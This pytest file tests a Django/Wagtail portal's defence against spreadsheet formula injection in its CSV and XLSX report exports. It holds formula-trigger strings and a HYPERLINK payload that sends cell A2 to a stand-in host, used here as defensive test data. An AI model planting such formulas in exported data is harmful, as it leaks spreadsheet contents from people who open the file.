"""No file that leaves the site for a spreadsheet holds a formula that somebody typed as a title."""

import csv
from io import BytesIO, StringIO

import openpyxl
import pytest
from django.urls import reverse

from portal.text.spreadsheets import safe_cell
from tests.factories import make_information_page

pytestmark = pytest.mark.django_db
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "+44 800 1111"]
HARMLESS = ["", "Fraud", "-5", "-0.25", "1,200", "a=b", "1-2", None, -5, 0.5]
REPORTS = [
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:page_types_usage",
    "wagtailadmin_reports:locked_pages",
    "wagtailusers_users:index",
    "wagtailsnippets_guidance_helproute:list",
    "portal_claims",
    "publications_download_counts",
    "guidance_route_checks",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", HARMLESS)
def test_other_texts_and_numbers_stay_as_they_are(value):
    assert safe_cell(value) == value


def cells_of(answer) -> list[str]:
    text = b"".join(answer.streaming_content).decode()
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


def test_a_title_that_is_a_formula_is_a_text_in_the_report(admin_client, page):
    title = '=HYPERLINK("https://example.org/?"&A2, "Read, please\nnow")'
    make_information_page(page("/"), title=title, slug="formula")
    address = reverse("wagtailadmin_reports:aging_pages")
    cells = cells_of(admin_client.get(address, {"export": "csv"}))
    assert f"'{title}" in cells
    assert title not in cells
    workbook = openpyxl.load_workbook(
        BytesIO(b"".join(admin_client.get(address, {"export": "xlsx"}).streaming_content))
    )
    [cell] = [one for row in workbook.active.iter_rows() for one in row if one.value == title]
    assert cell.data_type == "s"


@pytest.mark.parametrize("name", REPORTS)
def test_no_report_holds_a_formula(admin_client, administrator, page, name):
    administrator.first_name = "=1+1"
    administrator.save()
    made = make_information_page(page("/"), title="=1+1", slug="formula")
    made.locked, made.locked_by = True, administrator
    made.save()
    answer = admin_client.get(reverse(name), {"export": "csv"})
    assert answer.status_code == 200
    if answer.streaming:
        assert [cell for cell in cells_of(answer) if safe_cell(cell) != cell] == []
